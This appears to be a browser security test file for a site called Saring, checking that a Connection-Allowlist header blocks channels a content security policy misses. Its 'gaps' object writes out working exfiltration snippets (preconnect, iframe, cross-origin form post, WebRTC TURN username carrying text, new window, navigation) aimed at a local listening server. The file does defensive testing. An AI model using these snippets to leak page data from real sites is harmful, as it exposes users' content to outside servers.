// What no content security policy covers: a connection without a request (whose
// host name can carry words to a name server), WebRTC, and leaving the page. In
// browsers that know the header Connection-Allowlist (Chromium) the site closes
// these too. Each is shown open on a page without a policy first.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { openControl } from './control.mjs';
import { openPost } from './listening-post.mjs';
import { startProfile } from './browsers.mjs';
import { startSite } from './site.mjs';
import { check, messages, open } from './reader.mjs';
import { until, untilQuiet } from './wait.mjs';

const lure = messages.lures[0].text;
let site, control, profile;

before(async () => {
  [site, control] = await Promise.all([startSite(), openControl()]);
  profile = await startProfile();
});

after(async () => {
  await profile?.stop();
  await Promise.all([site?.stop(), control?.stop()]);
});

const gaps = {
  'a connection ahead of need': ({ origin }) => {
    const link = document.createElement('link');
    link.rel = 'preconnect';
    link.href = origin;
    document.head.append(link);
  },
  'a frame with another address': ({ origin }) => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: origin }));
  },
  'a form with another address': ({ origin, text }) => {
    const form = document.createElement('form');
    Object.assign(form, { action: origin, method: 'post', target: '_blank' });
    form.append(Object.assign(document.createElement('input'), { name: 'text', value: text }));
    document.body.append(form);
    form.submit();
  },
  WebRTC: async ({ origin, text }) => {
    const connection = new RTCPeerConnection({
      iceServers: [{ urls: `turn:${new URL(origin).host}`, username: text.slice(0, 100), credential: 'x' }],
    });
    connection.createDataChannel('attack');
    await connection.setLocalDescription(await connection.createOffer());
  },
  'a window with another address': ({ origin, text }) => void open(`${origin}/?text=${encodeURIComponent(text)}`),
  'another address in this window': ({ origin, text }) => void (location.href = `${origin}/?text=${encodeURIComponent(text)}`),
};

for (const [name, escape] of Object.entries(gaps)) {
  test(`${name}: open on an unsealed page`, async () => {
    const post = await openPost();
    const page = await profile.context.newPage();
    try {
      await page.goto(control.origin);
      await page.evaluate(escape, { origin: post.origin, text: lure });
      await until(name, () => post.entries.length > 0);
    } finally {
      await page.close();
      await post.stop();
    }
  });

  test(`${name}: closed on Saring's page`, async () => {
    const post = await openPost();
    const page = await profile.context.newPage();
    try {
      await open(page, site);
      await check(page, lure);
      await page.evaluate(escape, { origin: post.origin, text: lure }).catch(() => {}); // it may throw, or the page may be gone
      await untilQuiet('the other server', () => post.entries.length, { quiet: 1500 });
      assert.deepEqual(post.entries, []);
    } finally {
      await page.close();
      await post.stop();
    }
  });
}

test("the way that is left: a window with the site's own address, which the log shows", async () => {
  const page = await profile.context.newPage();
  await open(page, site);
  const before = site.requests().length;
  await page.evaluate((address) => void window.open(address), `${site.origin}/en/?opened`);
  await until('the request', () => site.requests().length > before);
  assert.equal(site.requests()[before].path, '/en/?opened');
  await page.close();
});
